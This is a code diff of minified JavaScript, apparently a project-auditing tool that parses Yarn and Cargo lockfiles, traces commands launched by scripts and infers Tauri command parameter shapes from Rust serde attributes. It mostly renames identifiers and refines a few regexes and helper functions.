 atched"?null:entry.integrity,isArchiveHash:isClassic2,hasInstallScript:null,...isClassic2?{}:{declared:(0,import_shared_acegos.wordsOf)("commands",commands2&&plain(
 commands2))},scope:{isDev:!1,isOptional:!isClassic2&&member(block.fields,"conditions")!==void 0},names:[...names4],needs:[...needs],lines:{version:placeOf12("ve\
-rsion")??at2,source:sourceAt,checksum:placeOf12(isClassic2?"integrity":"checksum")??(isClassic2?sourceAt:at2)}}}var MOST_LINES4=1e6,LONGEST_LINE3=65536,LONGEST_BLOCK=2e4,
+rsion")??at2,source:sourceAt,checksum:placeOf12(isClassic2?"integrity":"checksum")??(isClassic2?sourceAt:at2)}}}var MOST_LINES3=1e6,LONGEST_LINE3=65536,LONGEST_BLOCK=2e4,
 MOST_DUPLICATES=100,DEEPEST10=3,ODD3=/[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]|\r(?!\n)/,QUOTED='"([^"\\\\]*)"',WORD4={classic:'(?!true\
 |false)[A-Za-z][^:\\s\\\\",[\\]]*',berry:"[^-?:,\\][{}#&*!|>'\"%@` ](?: *[^,\\][{}:# ])*"},FIELD={classic:new RegExp(`^ +(?:(${WORD4.classic})|${QUOTED})(?::|( \
 )(?:(${WORD4.classic})|${QUOTED}))$`),berry:new RegExp(`^ +(?:(${WORD4.berry})|${QUOTED}):(?:( )(?:(${WORD4.berry})|${QUOTED}))?$`)},BARE={classic:new RegExp(`^${WORD4.
@@ -5854,7 +5880,7 @@ classic}$`),berry:new RegExp(`^${WORD4.berry}$`)},CLASSIC_DESCRIPTOR=new RegExp(
 file2).read()}var LineReader2=class{#path;#lines;#style;#blocks=[];#duplicates=[];#open=[];#at=0;constructor({path,text:text3}){this.#path=path;const odd=ODD3.exec(
 text3);if(!text3.isWellFormed())throw new Unreadable("It has half of a character.",0);if(odd!==null)throw new Unreadable("A character is none that Yarn writes.",
 odd.index);if(this.#lines=text3.split(`
-`,MOST_LINES4+1),this.#lines.length>MOST_LINES4)throw new Unreadable("It has too many lines.",text3.length);if(this.#lines.at(-1)!=="")throw new Unreadable("Its\
+`,MOST_LINES3+1),this.#lines.length>MOST_LINES3)throw new Unreadable("It has too many lines.",text3.length);if(this.#lines.at(-1)!=="")throw new Unreadable("Its\
  last line has no end.",text3.length);const header=`${this.#line(0)}
 ${this.#line(1)}`,style=HEADERS.get(header);if(style===void 0)throw new Unreadable("It doesn't begin as Yarn begins a lockfile.",0);for(this.#style=style,this.#at=
 2;style==="classic"&&VERSIONS.test(this.#line(this.#at));)this.#at+=1}read(){let isAfterBlank=!1;for(;this.#at<this.#lines.length;this.#at+=1){const line=this.#line(
@@ -6242,10 +6268,10 @@ manifests,folder,project),...unpinnedBeside(lock,manifests,folder)],gaps:[...few
 lock,folder),lock)]}}var MOST_GAPS2=100;function fewGaps(gaps,{path}){if(gaps.length<=MOST_GAPS2)return gaps;const sorted2=gaps.toSorted((a3,b5)=>a3.rests<b5.rests?
 -1:1),rest2=sorted2.slice(MOST_GAPS2),message=`${rest2.length} more of the kind aren't known about ${(0,import_shared_acegpst.code)(path)}. Let your package man\
 ager write it anew.`,rests=(0,import_shared_acegos.wordsOf)("more of a lockfile",path,...rest2.map(each=>each.rests));return[...sorted2.slice(0,MOST_GAPS2),(0,import_shared_acegos.gapIn)(
-path,{kind:"not-followed",rests,message})]}function pinnedPackages(lock,manifests,folder,project){const wayTo2=shortestPaths({roots:rootsOf3(lock,folder,project,
+path,{kind:"not-followed",rests,message})]}function pinnedPackages(lock,manifests,folder,project){const wayTo2=shortestPaths({roots:rootsOf4(lock,folder,project,
 manifests),next:node=>neededBy(node,lock,manifests),nameOf:key3=>lock.packages.get(key3)?.name??key3});return[...lock.packages].flatMap(([key3,each])=>{if(each.
 target!==null||lock.manager==="cargo")return[];const grant2=grantOf2(key3,each,lock,lock.manager,folder,project,wayTo2(key3));return aliasesOf(each).map(alias=>({
-...grant2,alias}))})}var PROJECT="project ";function rootsOf3(lock,{path},{location},manifests){const projects=[...new Set([...lock.projects.keys(),...manifests.
+...grant2,alias}))})}var PROJECT="project ";function rootsOf4(lock,{path},{location},manifests){const projects=[...new Set([...lock.projects.keys(),...manifests.
 keys()])];return[projects.filter(each=>{const place=joined(path,each);return place!==null&&(place===folderOf(location.root)||place===location.root)}),projects].
 map(group2=>group2.map(each=>`${PROJECT}${each}`))}function neededBy(node,lock,manifests){if(!node.startsWith(PROJECT))return lock.packages.get(node)?.needs??[];
 const place=node.slice(PROJECT.length),recorded=lock.projects.get(place);return recorded!==void 0?recorded:requirementsOf(manifests.get(place),!1).flatMap(({name,
@@ -6382,13 +6408,13 @@ isReadAnyway:!0,is:byPath(PROSE),wants:path=>PROSE.test(path)}],NAMES_OF_TOP=["w
 ...new Set(["",...withAncestors(folderOf(script.path))])];return commandsRun(script,{folders,variables:VARIABLES2,args:[[]]},budget)}function pathsNamed(ran,around2){
 const all=[ran,...ledTo(ran,around2)],named13=all.flatMap(({words:words4,folders})=>words4.flatMap(word2=>pathsIn(word2,folders))),holding2=all.flatMap(({words:words4,
 folders})=>words4.some(word2=>STARTS_BY_NAME.test(word2))?(folders??[""]).flatMap(withAncestors).flatMap(folder=>HOLD_SCRIPTS.map(name=>inFolder(folder,name))):
-[]),programs4=programsOf(all,around2).flatMap(file2=>pathsAsked(file2,TOP2)),paths3=[...named13.filter(isProgram),...pathsOfPrograms(all),...holding2,...programs4];
-return[...new Set(paths3)].filter(path=>around2.contents.isFile(path))}function aroundOf({files,contents}){return{runnable:runnableOf(files),contents,budget:new Budget(
-MOST_COMMANDS2)}}var MOST_COMMANDS2=3e3,TOP2={root:""},STARTS_BY_NAME=/^(?:npm|pnpm|yarn|bun|deno|run-[sp]|npm-run-all|concurrently|g?make|just)$/,HOLD_SCRIPTS=[
-"package.json","deno.json","GNUmakefile","makefile","Makefile","justfile",".justfile"];function reachedBy(ran,around2){const all=ledTo(ran,around2),commands2=all.
-flatMap(each=>{const act=actOf2(each,around2);if(act===void 0||each.isPrinted||classOf5(each)!=="reaches")return[];const at2={path:each.path,line:each.line,column:1,
-endLine:each.line};return[{act,text:shown(each),at:at2}]}),ofPrograms=programsOf([ran,...all],around2).flatMap(file2=>readProgram(file2).acts.filter(act=>act.class===
-"reaches").map(act=>grantOf(act,file2,[])));return[...commands2,...ofPrograms.map(({act,text:text3,at:at2})=>({act,text:text3,at:at2}))]}function programsOf(all,{
+[]),programs4=programsOf(all,around2).flatMap(file2=>pathsAsked(file2,TOP2)),started2=[...pathsOfPrograms(all),...pathsOfShells(all)],paths3=[...named13.filter(
+isProgram),...started2,...holding2,...programs4];return[...new Set(paths3)].filter(path=>around2.contents.isFile(path))}function aroundOf({files,contents}){return{
+runnable:runnableOf(files),contents,budget:new Budget(MOST_COMMANDS2)}}var MOST_COMMANDS2=3e3,TOP2={root:""},STARTS_BY_NAME=/^(?:npm|pnpm|yarn|bun|deno|run-[sp]|npm-run-all|concurrently|g?make|just)$/,
+HOLD_SCRIPTS=["package.json","deno.json","GNUmakefile","makefile","Makefile","justfile",".justfile"];function reachedBy(ran,around2){const all=ledTo(ran,around2),
+commands2=all.flatMap(each=>{const act=actOf2(each,around2);if(act===void 0||each.isPrinted||classOf5(each)!=="reaches")return[];const at2={path:each.path,line:each.
+line,column:1,endLine:each.line};return[{act,text:shown(each),at:at2}]}),ofPrograms=programsOf([ran,...all],around2).flatMap(file2=>readProgram(file2).acts.filter(
+act=>act.class==="reaches").map(act=>grantOf(act,file2,[])));return[...commands2,...ofPrograms.map(({act,text:text3,at:at2})=>({act,text:text3,at:at2}))]}function programsOf(all,{
 runnable}){return programsFrom(pathsOfPrograms(all),runnable.files,TOP2)}function ledTo({source,path,line,folders,variables},{runnable,budget}){return commandsOf(
 {script:{text:source,dialect:"posix",path,lineAt:()=>line},start:{folders,variables,args:[[]]}},runnable,budget).filter(each=>each.path!==path||each.source!==source)}
 var HIDDEN=/[\u00ad\u180e\u200b-\u200c\u200e-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;function proseGrants(file2){
@@ -7136,63 +7162,64 @@ isTainted);return news.length>0&&(changes(name)||this.#isChangedBy(name,self))&&
 value}#fill(given2,values,env){if(values.length!==0)for(const each of given2){const lent=isLent(each)?fieldOf(each,"value"):void 0;lent!==void 0&&change(lent,values,
 env)}}#isChangedBy(name,{type}){return this.app.functions(name).some(({owner,node})=>owner!==null&&(type===null||owner===type)&&changesSelf(node))}},LONGEST_RECEIVER=300;
 function serdeWords(file2,attributes2){return attributes2.map(each=>attributeOf(file2,each)).flatMap(({path,arguments:given2})=>path.at(-1)==="serde"?[given2.slice(
-1,-1)]:[]).join(", ")}function renamedTo(words4){return textAt3(words4,"rename")??/\brename\s*\([^)]*\bdeserialize\s*=\s*"([^"]*)"/.exec(words4)?.[1]??void 0}function ruleOfNames(words4,key3="\
-rename_all"){const split4=new RegExp(`\\b${key3}\\s*\\([^)]{0,400}\\bdeserialize\\s*=\\s*"([^"]*)"`).exec(words4);return textAt3(words4,key3)??split4?.[1]}function says(words4,word2){
-return new RegExp(`(?:^|[,(\\s])${word2}\\s*(?:$|[,=)])`).test(words4)}function writingOf(words4,shown4){return says(words4,"untagged")?"bare":{shown:shown4,tag:textAt3(
-words4,"tag")??null,content:textAt3(words4,"content")??null}}function textAt3(words4,key3){return new RegExp(`\\b${key3}\\s*=\\s*"([^"]*)"`).exec(words4)?.[1]}function nameBy(rule,name){
-const low=(name.match(/[A-Z]?[a-z\d]+|[A-Z]+(?![a-z])/g)??[name]).map(word2=>word2.toLowerCase()),camel=low.map(word2=>word2.charAt(0).toUpperCase()+word2.slice(
-1)).join("");switch(rule){case"camelCase":return camel.charAt(0).toLowerCase()+camel.slice(1);case"PascalCase":return camel;case"snake_case":return low.join("_");case"\
-SCREAMING_SNAKE_CASE":return low.join("_").toUpperCase();case"kebab-case":return low.join("-");case"SCREAMING-KEBAB-CASE":return low.join("-").toUpperCase();case"\
-lowercase":return name.toLowerCase();case"UPPERCASE":return name.toUpperCase();default:return name}}var DEEPEST15=4,MOST_PARTS=2e3,OF_TEXT=/^(?:u8|u16|u32|char)$/,
-PLAIN4=[[/^(?:[iuf](?:8|16|32|64|128|size)|JavaScriptChannelId)$/,0],[/^NonZero\w*$/,1],[/^bool$/,!1],[/^char$/,"a"],[/^(?:Uuid|Ulid)$/,"00000000-0000-0000-0000\
--000000000000"],[/^(?:IpAddr|Ipv4Addr)$/,"127.0.0.1"],[/^Ipv6Addr$/,"::1"],[/^Duration$/,{secs:0,nanos:0}],[/^SystemTime$/,{secs_since_epoch:0,nanos_since_epoch:0}],
-[/^DateTime$/,"2026-01-01T00:00:00Z"],[/^NaiveDate$/,"2026-01-01"],[/^NaiveDateTime$/,"2026-01-01T00:00:00"],[/^(?:Logical|Physical)Size$/,{width:0,height:0}],[
-/^(?:Logical|Physical)Position$/,{x:0,y:0}],[/^Instant$/,null]],LISTS=new Set(["Vec","VecDeque","HashSet","BTreeSet","IndexSet","SmallVec"]),WRAPS=new Set(["Box",
-"Arc","Rc","Cow","Json","Result"]),MAPS=new Set(["HashMap","BTreeMap","IndexMap"]),NOTHING5={kind:"plain",value:null};function shapeOf(app,file2,type,source){let left2=MOST_PARTS;
-return of2(file2,type,source,0);function of2(file3,type2,source2,depth){const text3={kind:"text",source:source2,type:null};if(left2-=1,depth>DEEPEST15||left2<0)
-return text3;if(type2.kind==="reference_type"){const inner=fieldOf(type2,"type");return inner===void 0?text3:of2(file3,inner,source2,depth)}if(type2.kind==="arr\
-ay_type"||type2.kind==="slice_type"){const[inner]=type2.children;return inner===void 0?NOTHING5:ofMany(file3,inner,source2,depth)}if(type2.kind==="tuple_type")return{
-kind:"tuple",of:type2.children.map(each=>of2(file3,each,`${source2}[]`,depth+1))};const name=typeName(file3,type2),plain8=PLAIN4.find(([pattern])=>pattern.test(
-name));if(plain8!==void 0&&app.types(name).length===0)return{kind:"plain",value:plain8[1]};const given2=childOf(type2,"type_arguments")?.children.filter(({kind})=>kind!==
-"lifetime")??[],last=given2.at(-1);if(LISTS.has(name)&&last!==void 0)return ofMany(file3,last,source2,depth);if(name==="Option"&&last!==void 0)return{kind:"opti\
-onal",of:of2(file3,last,source2,depth+1)};if(WRAPS.has(name)&&last!==void 0)return of2(file3,last,source2,depth+1);if(MAPS.has(name)&&last!==void 0)return{kind:"\
-map",source:source2,of:of2(file3,last,source2,depth+1)};const declared3=app.types(name),[own]=declared3.filter(each=>each.file===file3).concat(declared3);return own===
-void 0?{...text3,type:name||null}:ofType(own,source2,(inner,at2)=>{const meant=given2[typeParametersOf(own).indexOf(textOf5(own.file,inner))];return meant===void 0?
-of2(own.file,inner,at2,depth+1):of2(file3,meant,at2,depth+1)})}function ofMany(file3,inner,source2,depth){return OF_TEXT.test(textOf5(file3,inner))?{kind:"bytes",
-source:source2}:{kind:"list",of:of2(file3,inner,`${source2}[]`,depth+1)}}function ofType(own,source2,inner){const{node,file:file3,attributes:attributes2,name}=own;
-if(node.kind==="type_item"){const aliased=fieldOf(node,"type");return aliased===void 0?{kind:"text",source:source2,type:null}:inner(aliased,source2)}const body=fieldOf(
-node,"body");if(body===void 0||!isFromPages(app,own))return NOTHING5;const words4=serdeWords(file3,attributes2);return node.kind==="enum_item"?{kind:"choice",of:variantsOf(
-file3,body,words4,source2,inner)}:body.kind==="ordered_field_declaration_list"?ofOrdered(body,source2,inner):{kind:"fields",type:name,of:fieldsOf2(file3,body,ruleOfNames(
-words4),source2,inner)}}}function ofOrdered(body,source,inner){const types=body.children.filter(({field:field3})=>field3==="type"),[only2]=types;return only2!==
-void 0&&types.length===1?inner(only2,source):{kind:"tuple",of:types.map(each=>inner(each,`${source}[]`))}}function fieldsOf2(file2,body,rule,source,inner){return withAttributes(
-body).flatMap(({node,attributes:attributes2})=>{const[field3,type]=[fieldOf(node,"name"),fieldOf(node,"type")];if(node.kind!=="field_declaration"||field3===void 0||
-type===void 0)return[];const[words4,name]=[serdeWords(file2,attributes2),textOf5(file2,field3)];if(says(words4,"skip")||says(words4,"skip_deserializing"))return[];
-const shown4=renamedTo(words4)??nameBy(rule,name),isSpread=says(words4,"flatten"),shape=inner(type,isSpread?source:`${source}.${shown4}`),mayLack=says(words4,"d\
-efault")||shape.kind==="optional";return[{name,shown:shown4,shape,mayLack,isSpread}]})}function variantsOf(file2,body,words4,source,inner){return withAttributes(
-body).flatMap(({node,attributes:attributes2})=>{const[named13,payload]=[fieldOf(node,"name"),fieldOf(node,"body")];if(node.kind!=="enum_variant"||named13===void 0)
-return[];const[own,name]=[serdeWords(file2,attributes2),textOf5(file2,named13)];if(says(own,"skip")||says(own,"skip_deserializing"))return[];const shown4=renamedTo(
-own)??nameBy(ruleOfNames(words4),name),at2=`${source}.${shown4}`,fieldRule=ruleOfNames(own)??ruleOfNames(words4,"rename_all_fields"),shape=payload===void 0?null:
-payload.kind==="ordered_field_declaration_list"?ofOrdered(payload,at2,inner):{kind:"fields",type:name,of:fieldsOf2(file2,payload,fieldRule,at2,inner)};return[{name,
-shape,written:writingOf(words4,shown4)}]})}function withAttributes({children}){let attributes2=[];return children.flatMap(node=>{if(node.kind==="attribute_item")
-return attributes2.push(node),[];const own=attributes2;return attributes2=[],[{node,attributes:own}]})}function typeParametersOf({node,file:file2}){return(node.
-children.find(({kind})=>kind==="type_parameters")?.children.map(each=>textOf5(file2,each).replace(/[:=\s].*$/s,""))??[]).filter(each=>!each.startsWith("'"))}function typeName(file2,type){
-const path=pathOf(file2,type),[used]=path.length===1?file2.uses.get(path[0]??"")??[]:[];return(used??path).at(-1)??""}function isFromPages(app,{name,attributes:attributes2,
-file:file2}){if(attributes2.some(each=>textOf5(file2,each).includes("Deserialize")))return!0;const byHand=new RegExp(`\\bDeserialize\\b[^{;]{0,400}\\bfor\\s+${name}\
-\\b`);return app.files.some(({text:text3})=>text3.includes("Deserialize")&&text3.includes(name)&&byHand.test(text3))}var TAURIS=new Set("State AppHandle App Win\
-dow WebviewWindow Webview Channel CommandScope GlobalScope".split(" "));function parametersOf5(app,command2){const{file:file2,node}=command2,keeps=keepsNames(command2);
-return(fieldOf(node,"parameters")?.children??[]).flatMap(parameter=>{const[pattern,type]=[fieldOf(parameter,"pattern"),fieldOf(parameter,"type")];if(parameter.kind!==
-"parameter"||pattern===void 0||type===void 0)return[];if(isTauris2(app,file2,type))return[];const named13=textOf5(file2,pattern).replace(/^mut\s+/,""),name=keeps?
-named13.replace(/^_+/,""):camelCase(named13),shape=shapeOf(app,file2,type,name),value=heldBy2(shape),written7=textOf5(file2,type).replace(/\s+/g,"");return[{input:{
-name,type:written7,isText:value.from.size>0,shape},pattern,type,value}]})}function isTauris2(app,file2,type){const path=pathOf(file2,type),[first=""]=path,isOne=each=>{
-const name=each.at(-1)??"";return TAURIS.has(name)&&(each[0]==="tauri"||app.types(name).length===0)};return(file2.uses.get(first)??[path]).some(isOne)||app.aliases(
-path.at(-1)??"").some(aliased=>TAURIS.has(aliased.at(-1)??""))}function heldBy2(shape){switch(shape.kind){case"text":return{...holding([shape.source]),type:shape.
-type};case"bytes":return holding([shape.source]);case"plain":return EMPTY2;case"optional":case"list":return heldBy2(shape.of);case"map":return holding([shape.source,
-...heldBy2(shape.of).from.keys()]);case"tuple":return ofParts(shape.of.map((each,index)=>[String(index),each]),null);case"fields":return ofParts(shape.of.map(field3=>[
-field3.name,field3.shape]),shape.type);case"choice":return ofParts(shape.of.flatMap(variant=>variant.shape===null?[]:[[variant.name,variant.shape]]),null)}}function ofParts(parts2,type){
-const fields3=new Map(parts2.map(([name,part])=>[name,heldBy2(part)]));return valueWith({from:joined7([...fields3.values()]),fields:fields3,type})}function holding(sources){
-return valueWith({from:new Map(sources.map(source=>[source,new Set]))})}function camelCase(name){return name.replace(/^_+/,"").replace(/_+(\w)/g,(_3,letter)=>letter.
-toUpperCase())}var rustCommands={id:"rust-commands",scope:"app",layered:!1,files:[],read:(project,rust)=>rust===void 0?{grants:[],gaps:[]}:commandsOf2(project,rust)},
-MOST_STEPS4=4e6;function commandsOf2(project,{parser,touched,side}){const app=appCode(project,parser),work=new Work(MOST_STEPS4),grants=[],gaps=[],registered=registeredCommands(
+1,-1)]:[]).join(", ")}function renamedTo(words4){return textAt3(words4,"rename")??/\brename\s*\([^)]{0,400}\bdeserialize\s*=\s*"([^"]*)"/.exec(words4)?.[1]??void 0}
+function ruleOfNames(words4,key3="rename_all"){const split4=new RegExp(`\\b${key3}\\s*\\([^)]{0,400}\\bdeserialize\\s*=\\s*"([^"]*)"`).exec(words4);return textAt3(
+words4,key3)??split4?.[1]}function says(words4,word2){return new RegExp(`(?:^|[,(\\s])${word2}\\s*(?:$|[,=)])`).test(words4)}function writingOf(words4,shown4){return says(
+words4,"untagged")?"bare":{shown:shown4,tag:textAt3(words4,"tag")??null,content:textAt3(words4,"content")??null}}function textAt3(words4,key3){return new RegExp(
+`\\b${key3}\\s*=\\s*"([^"]*)"`).exec(words4)?.[1]}function nameBy(rule,name){const low=(name.match(/[A-Z]?[a-z\d]+|[A-Z]+(?![a-z])/g)??[name]).map(word2=>word2.
+toLowerCase()),camel=low.map(word2=>word2.charAt(0).toUpperCase()+word2.slice(1)).join("");switch(rule){case"camelCase":return camel.charAt(0).toLowerCase()+camel.
+slice(1);case"PascalCase":return camel;case"snake_case":return low.join("_");case"SCREAMING_SNAKE_CASE":return low.join("_").toUpperCase();case"kebab-case":return low.
+join("-");case"SCREAMING-KEBAB-CASE":return low.join("-").toUpperCase();case"lowercase":return name.toLowerCase();case"UPPERCASE":return name.toUpperCase();default:
+return name}}var DEEPEST15=4,MOST_PARTS=2e3,OF_TEXT=/^(?:u8|u16|u32|char)$/,PLAIN4=[[/^(?:[iuf](?:8|16|32|64|128|size)|JavaScriptChannelId)$/,0],[/^NonZero\w*$/,
+1],[/^bool$/,!1],[/^char$/,"a"],[/^(?:Uuid|Ulid)$/,"00000000-0000-0000-0000-000000000000"],[/^(?:IpAddr|Ipv4Addr)$/,"127.0.0.1"],[/^Ipv6Addr$/,"::1"],[/^Duration$/,
+{secs:0,nanos:0}],[/^SystemTime$/,{secs_since_epoch:0,nanos_since_epoch:0}],[/^DateTime$/,"2026-01-01T00:00:00Z"],[/^NaiveDate$/,"2026-01-01"],[/^NaiveDateTime$/,
+"2026-01-01T00:00:00"],[/^(?:Logical|Physical)Size$/,{width:0,height:0}],[/^(?:Logical|Physical)Position$/,{x:0,y:0}],[/^Instant$/,null]],LISTS=new Set(["Vec","\
+VecDeque","HashSet","BTreeSet","IndexSet","SmallVec"]),WRAPS=new Set(["Box","Arc","Rc","Cow","Json","Result"]),MAPS=new Set(["HashMap","BTreeMap","IndexMap"]),NOTHING5={
+kind:"plain",value:null};function shapeOf(app,file2,type,source){let left2=MOST_PARTS;return of2(file2,type,source,0);function of2(file3,type2,source2,depth){const text3={
+kind:"text",source:source2,type:null};if(left2-=1,depth>DEEPEST15||left2<0)return text3;if(type2.kind==="reference_type"){const inner=fieldOf(type2,"type");return inner===
+void 0?text3:of2(file3,inner,source2,depth)}if(type2.kind==="array_type"||type2.kind==="slice_type"){const[inner]=type2.children;return inner===void 0?NOTHING5:
+ofMany(file3,inner,source2,depth)}if(type2.kind==="tuple_type")return{kind:"tuple",of:type2.children.map(each=>of2(file3,each,`${source2}[]`,depth+1))};const name=typeName(
+file3,type2),plain8=PLAIN4.find(([pattern])=>pattern.test(name));if(plain8!==void 0&&app.types(name).length===0)return{kind:"plain",value:plain8[1]};const given2=childOf(
+type2,"type_arguments")?.children.filter(({kind})=>kind!=="lifetime")??[],last=given2.at(-1);if(LISTS.has(name)&&last!==void 0)return ofMany(file3,last,source2,
+depth);if(name==="Option"&&last!==void 0)return{kind:"optional",of:of2(file3,last,source2,depth+1)};if(WRAPS.has(name)&&last!==void 0)return of2(file3,last,source2,
+depth+1);if(MAPS.has(name)&&last!==void 0)return{kind:"map",source:source2,of:of2(file3,last,source2,depth+1)};const declared3=app.types(name),[own]=declared3.filter(
+each=>each.file===file3).concat(declared3);return own===void 0?{...text3,type:name||null}:ofType(own,source2,(inner,at2)=>{const meant=given2[typeParametersOf(own).
+indexOf(textOf5(own.file,inner))];return meant===void 0?of2(own.file,inner,at2,depth+1):of2(file3,meant,at2,depth+1)})}function ofMany(file3,inner,source2,depth){
+return OF_TEXT.test(textOf5(file3,inner))?{kind:"bytes",source:source2}:{kind:"list",of:of2(file3,inner,`${source2}[]`,depth+1)}}function ofType(own,source2,inner){
+const{node,file:file3,attributes:attributes2,name}=own;if(node.kind==="type_item"){const aliased=fieldOf(node,"type");return aliased===void 0?{kind:"text",source:source2,
+type:null}:inner(aliased,source2)}const body=fieldOf(node,"body");if(body===void 0||!isFromPages(app,own))return NOTHING5;const words4=serdeWords(file3,attributes2);
+return node.kind==="enum_item"?{kind:"choice",of:variantsOf(file3,body,words4,source2,inner)}:body.kind==="ordered_field_declaration_list"?ofOrdered(body,source2,
+inner):{kind:"fields",type:name,of:fieldsOf2(file3,body,ruleOfNames(words4),source2,inner)}}}function ofOrdered(body,source,inner){const types=body.children.filter(
+({field:field3})=>field3==="type"),[only2]=types;return only2!==void 0&&types.length===1?inner(only2,source):{kind:"tuple",of:types.map(each=>inner(each,`${source}\
+[]`))}}function fieldsOf2(file2,body,rule,source,inner){return withAttributes(body).flatMap(({node,attributes:attributes2})=>{const[field3,type]=[fieldOf(node,"\
+name"),fieldOf(node,"type")];if(node.kind!=="field_declaration"||field3===void 0||type===void 0)return[];const[words4,name]=[serdeWords(file2,attributes2),textOf5(
+file2,field3)];if(says(words4,"skip")||says(words4,"skip_deserializing"))return[];const shown4=renamedTo(words4)??nameBy(rule,name),isSpread=says(words4,"flatte\
+n"),shape=inner(type,isSpread?source:`${source}.${shown4}`),mayLack=says(words4,"default")||shape.kind==="optional";return[{name,shown:shown4,shape,mayLack,isSpread}]})}
+function variantsOf(file2,body,words4,source,inner){return withAttributes(body).flatMap(({node,attributes:attributes2})=>{const[named13,payload]=[fieldOf(node,"\
+name"),fieldOf(node,"body")];if(node.kind!=="enum_variant"||named13===void 0)return[];const[own,name]=[serdeWords(file2,attributes2),textOf5(file2,named13)];if(says(
+own,"skip")||says(own,"skip_deserializing"))return[];const shown4=renamedTo(own)??nameBy(ruleOfNames(words4),name),at2=`${source}.${shown4}`,fieldRule=ruleOfNames(
+own)??ruleOfNames(words4,"rename_all_fields"),shape=payload===void 0?null:payload.kind==="ordered_field_declaration_list"?ofOrdered(payload,at2,inner):{kind:"fi\
+elds",type:name,of:fieldsOf2(file2,payload,fieldRule,at2,inner)};return[{name,shape,written:writingOf(words4,shown4)}]})}function withAttributes({children}){let attributes2=[];
+return children.flatMap(node=>{if(node.kind==="attribute_item")return attributes2.push(node),[];const own=attributes2;return attributes2=[],[{node,attributes:own}]})}
+function typeParametersOf({node,file:file2}){return(node.children.find(({kind})=>kind==="type_parameters")?.children.map(each=>textOf5(file2,each).replace(/[:=\s].*$/s,
+""))??[]).filter(each=>!each.startsWith("'"))}function typeName(file2,type){const path=pathOf(file2,type),[used]=path.length===1?file2.uses.get(path[0]??"")??[]:
+[];return(used??path).at(-1)??""}function isFromPages(app,{name,attributes:attributes2,file:file2}){if(attributes2.some(each=>textOf5(file2,each).includes("Dese\
+rialize")))return!0;const itself=new RegExp(`\\bfor\\s+${name}\\b`);return app.files.some(({text:text3})=>text3.includes("Deserialize")&&text3.includes(name)&&text3.
+split(/[{;]/).some(head=>head.includes("Deserialize")&&itself.test(head)))}var TAURIS=new Set("State AppHandle App Window WebviewWindow Webview Channel CommandS\
+cope GlobalScope".split(" "));function parametersOf5(app,command2){const{file:file2,node}=command2,keeps=keepsNames(command2);return(fieldOf(node,"parameters")?.
+children??[]).flatMap(parameter=>{const[pattern,type]=[fieldOf(parameter,"pattern"),fieldOf(parameter,"type")];if(parameter.kind!=="parameter"||pattern===void 0||
+type===void 0)return[];if(isTauris2(app,file2,type))return[];const named13=textOf5(file2,pattern).replace(/^mut\s+/,""),name=keeps?named13.replace(/^_+/,""):camelCase(
+named13),shape=shapeOf(app,file2,type,name),value=heldBy2(shape),written7=textOf5(file2,type).replace(/\s+/g,"");return[{input:{name,type:written7,isText:value.
+from.size>0,shape},pattern,type,value}]})}function isTauris2(app,file2,type){const path=pathOf(file2,type),[first=""]=path,isOne=each=>{const name=each.at(-1)??
+"";return TAURIS.has(name)&&(each[0]==="tauri"||app.types(name).length===0)};return(file2.uses.get(first)??[path]).some(isOne)||app.aliases(path.at(-1)??"").some(
+aliased=>TAURIS.has(aliased.at(-1)??""))}function heldBy2(shape){switch(shape.kind){case"text":return{...holding([shape.source]),type:shape.type};case"bytes":return holding(
+[shape.source]);case"plain":return EMPTY2;case"optional":case"list":return heldBy2(shape.of);case"map":return holding([shape.source,...heldBy2(shape.of).from.keys()]);case"\
+tuple":return ofParts(shape.of.map((each,index)=>[String(index),each]),null);case"fields":return ofParts(shape.of.map(field3=>[field3.name,field3.shape]),shape.
+type);case"choice":return ofParts(shape.of.flatMap(variant=>variant.shape===null?[]:[[variant.name,variant.shape]]),null)}}function ofParts(parts2,type){const fields3=new Map(
+parts2.map(([name,part])=>[name,heldBy2(part)]));return valueWith({from:joined7([...fields3.values()]),fields:fields3,type})}function holding(sources){return valueWith(
+{from:new Map(sources.map(source=>[source,new Set]))})}function camelCase(name){return name.replace(/^_+/,"").replace(/_+(\w)/g,(_3,letter)=>letter.toUpperCase())}
+var rustCommands={id:"rust-commands",scope:"app",layered:!1,files:[],read:(project,rust)=>rust===void 0?{grants:[],gaps:[]}:commandsOf2(project,rust)},MOST_STEPS4=4e6;
+function commandsOf2(project,{parser,touched,side}){const app=appCode(project,parser),work=new Work(MOST_STEPS4),grants=[],gaps=[],registered=registeredCommands(
 app).filter(({functions:functions2,registration})=>functions2.some(({file:file2})=>touched.has(file2.file.path))||functions2.length===0&&touched.has(registration.
 code.file.path));try{for(const command2 of registered){const{grant:grant2,gaps:unknown3}=commandOf2(app,command2,work,side);grant2!==null&&grants.push(grant2),gaps.
 push(...unknown3)}for(const each of doorsIn(app,touched)){const{grant:grant2,gaps:unknown3}=doorOf(app,each,work,side);grants.push(grant2),gaps.push(...unknown3)}}catch(error){
@@ -8777,10 +8804,10 @@ irectoryRef|StandardDirectory|Component|ComponentRef|ComponentGroup|ComponentGro
 IText|Condition|Level|WixVariable|String|MajorUpgrade",XCODE=String.raw`(?:- )?["']?(?:name|title|options|info|properties|bundleIdPrefix|createIntermediateGroups|developmentLanguage|deploymentTarget|iOS|xcodeVersion|fileGroups|configs|debug|release|targets|schemes|type|platform|CFBundle(?:Short)?Version\w*|UI\w+|NS\w+UsageDescription|LS\w+)["']?\s*:[\w ."'/-]*|[\]}[{,]+`,
 CLOSED_TEXTS=new RegExp(`^${CLOSED}$`),TELLING_SHELL=new RegExp(`^(?!(?=${CLOSED}$)(?:${SHELL7.join("|")})$)[^]`),TELLING_NSIS=new RegExp(String.raw`^(?!(?:${NSIS.
 join("|")})(?: [;#][^]*)?$)[^]|\$%|/\*|\*/|^(?:(?!\{\{)[^])*\}\}`,"i"),TELLING_WIX=new RegExp(String.raw`<(?!(?:/|!--|!\[|\?(?:xml|if|ifdef|ifndef|else|elseif|endif)\b|(?:${WIX})(?=[\s/>])))|\b(?:Execute|InstallScope|AllowDowngrades|Impersonate|InstallPrivileges)\s*=|&#|\b(?:System(?:16|64)?Folder|WindowsFolder|StartupFolder|Event\s*=\s*["']DoAction["'])\b`,
